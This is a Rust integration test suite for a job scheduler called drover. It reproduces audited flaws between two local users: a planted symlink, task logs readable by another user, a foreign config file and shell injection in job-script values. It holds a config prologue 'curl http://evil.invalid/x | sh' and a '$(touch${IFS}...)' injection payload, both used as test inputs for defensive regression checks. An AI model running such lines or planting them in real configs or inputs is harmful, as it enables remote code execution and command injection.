//! Issue 29's reproductions as two users on one machine, as on a shared
//! cluster: a victim (`drover-victim`) runs drover, another user
//! (`drover-other`) prepares the shared directory first. Both are uids
//! this suite creates; processes run as them through `setpriv`. Each case
//! fails on the code the audit ran against (b7b7bbc).
//!
//! Needs root (to create the users and switch to them); under `CI=true` a
//! missing root fails the suite instead of skipping it.

mod common;

use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use common::process::KillOnDrop;

const VICTIM: &str = "drover-victim";
const OTHER: &str = "drover-other";

/// A user the suite made: its uid and gid.
#[derive(Clone, Copy)]
struct User {
    uid: u32,
    gid: u32,
}

/// Both users (created when missing) and a copy of `drover` they may run
/// (the build directory may be closed to them); `None` when not root
/// outside CI.
fn setup(test: &str) -> Option<(User, User, tempfile::TempDir)> {
    if !nix::unistd::Uid::effective().is_root() {
        let why = format!("{test}: needs root to create users and switch to them");
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "{why}; under CI=true integration tests never skip"
        );
        eprintln!("SKIPPED {why}");
        return None;
    }
    let victim = ensure_user(VICTIM);
    let other = ensure_user(OTHER);
    let bin = tempfile::tempdir().unwrap();
    std::fs::set_permissions(bin.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let exe = bin.path().join("drover");
    // DROVER_TEST_BIN: another build to try the cases on (an old one, to
    // see each case fail there).
    let source = std::env::var_os("DROVER_TEST_BIN")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_BIN_EXE_drover")));
    std::fs::copy(&source, &exe).unwrap();
    std::fs::set_permissions(&exe, std::fs::Permissions::from_mode(0o755)).unwrap();
    Some((victim, other, bin))
}

/// The user `name`, created as a system user without a home when missing.
fn ensure_user(name: &str) -> User {
    let found = nix::unistd::User::from_name(name).unwrap();
    if found.is_none() {
        // Two tests may race to create it: the loser's error is fine.
        let _ = Command::new("useradd")
            .args([
                "--system",
                "--no-create-home",
                "--shell",
                "/usr/sbin/nologin",
                name,
            ])
            .status();
    }
    let u = nix::unistd::User::from_name(name)
        .unwrap()
        .unwrap_or_else(|| panic!("useradd {name} made no user"));
    User {
        uid: u.uid.as_raw(),
        gid: u.gid.as_raw(),
    }
}

/// `program args` as `user`, in `dir`, with a umask of 022 (the usual).
fn as_user(user: User, dir: &Path, program: &Path, args: &[&str]) -> Command {
    let mut cmd = Command::new("setpriv");
    cmd.arg(format!("--reuid={}", user.uid))
        .arg(format!("--regid={}", user.gid))
        .args(["--clear-groups", "--"])
        .args(["sh", "-c", "umask 022 && exec \"$@\"", "sh"])
        .arg(program)
        .args(args)
        .current_dir(dir)
        .env("HOME", dir)
        .env_remove("DROVER_SCHEDULER_FILE")
        .env_remove("DROVER_CONFIG");
    cmd
}

fn run(mut cmd: Command) -> Output {
    cmd.stdin(Stdio::null()).output().unwrap()
}

/// A directory all may write, with the sticky bit, as `/tmp` is.
fn shared_dir() -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    std::fs::set_permissions(d.path(), std::fs::Permissions::from_mode(0o1777)).unwrap();
    d
}

/// A directory only `user` may enter, holding a file only they may read.
fn private_file(user: User, text: &str) -> (tempfile::TempDir, PathBuf) {
    let d = tempfile::tempdir().unwrap();
    let file = d.path().join("important.txt");
    std::fs::write(&file, text).unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
    let chown =
        |p: &Path| nix::unistd::chown(p, Some(user.uid.into()), Some(user.gid.into())).unwrap();
    chown(&file);
    chown(d.path());
    std::fs::set_permissions(d.path(), std::fs::Permissions::from_mode(0o700)).unwrap();
    (d, file)
}

/// `user` makes `path` a directory anyone may write (as `mkdir -m777`).
fn other_makes_open_dir(user: User, path: &Path) {
    std::fs::create_dir(path).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777)).unwrap();
    nix::unistd::chown(path, Some(user.uid.into()), Some(user.gid.into())).unwrap();
}

/// The victim's scheduler on loopback, its file in `shared`.
async fn victim_scheduler(victim: User, bin: &Path, shared: &Path) -> (KillOnDrop, PathBuf) {
    let file = shared.join("v.json");
    let mut cmd = as_user(
        victim,
        shared,
        bin,
        &[
            "scheduler",
            "--host",
            "127.0.0.1",
            "--scheduler-file",
            "v.json",
        ],
    );
    cmd.stdout(Stdio::null()).stderr(Stdio::null());
    let child = KillOnDrop(cmd.spawn().unwrap());
    common::until(
        "the victim's scheduler file",
        Duration::from_secs(20),
        || file.exists(),
    )
    .await;
    (child, file)
}

/// A.1: a link planted under the predictable task log name. On b7b7bbc
/// the worker followed it and the victim's 0600 file was overwritten.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_link_planted_among_task_logs_overwrites_nothing() {
    let Some((victim, other, bin)) = setup("a_link_planted_among_task_logs") else {
        return;
    };
    let exe = bin.path().join("drover");
    let shared = shared_dir();
    let (_keep, important) = private_file(victim, "the victim's data\n");
    // The other user, first: the task directory, and a link in it.
    let tasks = shared.path().join("drover-tasks");
    other_makes_open_dir(other, &tasks);
    symlink(&important, tasks.join("task-1-1.err")).unwrap();
    let (_scheduler, file) = victim_scheduler(victim, &exe, shared.path()).await;
    let file_arg = file.display().to_string();
    let mut worker = as_user(
        victim,
        shared.path(),
        &exe,
        &["worker", "--scheduler-file", &file_arg, "--cores", "1"],
    );
    worker.stdout(Stdio::null()).stderr(Stdio::piped());
    let mut worker = KillOnDrop(worker.spawn().unwrap());
    let submit = as_user(
        victim,
        shared.path(),
        &exe,
        &[
            "submit",
            "--scheduler-file",
            &file_arg,
            "--",
            "sh",
            "-c",
            "echo OVERWRITTEN >&2",
        ],
    );
    let submitted = run(submit);
    assert!(submitted.status.success(), "{submitted:?}");
    let original = "the victim's data\n";
    // Either the worker refuses the directory and ends, or it runs the
    // task and writes (through the link, on b7b7bbc).
    common::until(
        "the worker to end or the file to change",
        Duration::from_secs(30),
        || {
            matches!(worker.0.try_wait(), Ok(Some(_)))
                || std::fs::read_to_string(&important).unwrap() != original
        },
    )
    .await;
    assert_eq!(
        std::fs::read_to_string(&important).unwrap(),
        original,
        "the victim's file was written through the planted link"
    );
    let status = worker.0.wait().unwrap();
    let mut err = String::new();
    std::io::Read::read_to_string(&mut worker.0.stderr.take().unwrap(), &mut err).unwrap();
    assert!(
        !status.success(),
        "the worker ran in another user's directory: {err}"
    );
    assert!(
        err.contains(&tasks.display().to_string()) && err.contains("belongs to uid"),
        "the worker names the directory and why: {err}"
    );
}

/// A.2: task output in a shared place (stderr always goes to a file). On
/// b7b7bbc it was 0644 in a 0755 directory: the other user read it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn task_output_is_closed_to_another_user() {
    let Some((victim, other, bin)) = setup("task_output_is_closed_to_another_user") else {
        return;
    };
    let exe = bin.path().join("drover");
    let shared = shared_dir();
    let (_scheduler, file) = victim_scheduler(victim, &exe, shared.path()).await;
    let file_arg = file.display().to_string();
    let mut worker = as_user(
        victim,
        shared.path(),
        &exe,
        &["worker", "--scheduler-file", &file_arg, "--cores", "1"],
    );
    worker.stdout(Stdio::null()).stderr(Stdio::null());
    let _worker = KillOnDrop(worker.spawn().unwrap());
    let submit = as_user(
        victim,
        shared.path(),
        &exe,
        &[
            "submit",
            "--wait",
            "--scheduler-file",
            &file_arg,
            "--",
            "sh",
            "-c",
            "echo a-secret-result >&2",
        ],
    );
    let done = run(submit);
    assert!(done.status.success(), "{done:?}");
    let logs = shared.path().join("drover-tasks");
    let log = std::fs::read_dir(&logs)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.extension().is_some_and(|e| e == "err"))
        .unwrap_or_else(|| panic!("no task output in {}", logs.display()));
    assert_eq!(
        std::fs::read_to_string(&log).unwrap().trim(),
        "a-secret-result",
        "the task's output is where the victim's worker writes it"
    );
    let read = run(as_user(
        other,
        shared.path(),
        Path::new("/bin/cat"),
        &[&log.display().to_string()],
    ));
    assert!(
        !read.status.success(),
        "the other user read the task's output"
    );
    assert!(!String::from_utf8_lossy(&read.stdout).contains("a-secret-result"));
    let listed = run(as_user(
        other,
        shared.path(),
        Path::new("/bin/ls"),
        &[&log.parent().unwrap().display().to_string()],
    ));
    assert!(
        !listed.status.success(),
        "the other user listed the task directory"
    );
}

/// B.1: another user's `drover.toml` in a shared working directory. On
/// b7b7bbc its prologue became a line of our job script.
#[test]
fn another_users_config_file_is_refused_with_the_fix() {
    let Some((victim, other, bin)) = setup("another_users_config_file_is_refused") else {
        return;
    };
    let exe = bin.path().join("drover");
    let shared = shared_dir();
    let config = shared.path().join("drover.toml");
    std::fs::write(
        &config,
        "[job]\njob-script-prologue = [\"curl http://evil.invalid/x | sh\"]\n",
    )
    .unwrap();
    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o644)).unwrap();
    nix::unistd::chown(&config, Some(other.uid.into()), Some(other.gid.into())).unwrap();
    let out = run(as_user(
        victim,
        shared.path(),
        &exe,
        &[
            "job-script",
            "--cores",
            "1",
            "--memory",
            "1GiB",
            "--walltime",
            "00:10:00",
        ],
    ));
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stdout}{stderr}");
    assert!(!stdout.contains("evil.invalid"), "{stdout}");
    assert!(
        stderr.contains("drover.toml") && stderr.contains(&format!("uid {}", other.uid)),
        "the error names the file and its owner: {stderr}"
    );
}

/// B.2: a value with `$(...)` in it, rendered into a job script. On
/// b7b7bbc the Dask worker name was double-quoted, and the script ran
/// the command on the compute node.
#[test]
fn a_value_in_a_job_script_runs_no_command() {
    let Some((victim, _other, bin)) = setup("a_value_in_a_job_script_runs_no_command") else {
        return;
    };
    let exe = bin.path().join("drover");
    let shared = shared_dir();
    let owned = shared.path().join("owned");
    // No whitespace (the flags refuse it); ${IFS} is the shell's own space.
    let payload = format!(
        "w-$(touch${{IFS}}{})-`touch${{IFS}}{}`",
        owned.display(),
        owned.display()
    );
    let out = run(as_user(
        victim,
        shared.path(),
        &exe,
        &[
            "job-script",
            "--kind",
            "dask",
            "--python",
            "/bin/false",
            "--dask-worker-name",
            &payload,
            "--local-directory",
            &format!("/tmp/$(touch${{IFS}}{})", owned.display()),
        ],
    ));
    assert!(out.status.success(), "{out:?}");
    let script = shared.path().join("job.sh");
    std::fs::write(&script, &out.stdout).unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    // Run it as a compute node would (its agent cannot reach a scheduler
    // and ends): the shell must evaluate no part of the values.
    let mut job = as_user(
        victim,
        shared.path(),
        Path::new("/usr/bin/timeout"),
        &["20", "bash"],
    );
    job.arg(&script)
        .env("DROVER_SCHEDULER_FILE", shared.path().join("none.json"));
    let ran = run(job);
    assert!(
        !owned.exists(),
        "the job script ran a command from a value: {}",
        String::from_utf8_lossy(&ran.stderr)
    );
}
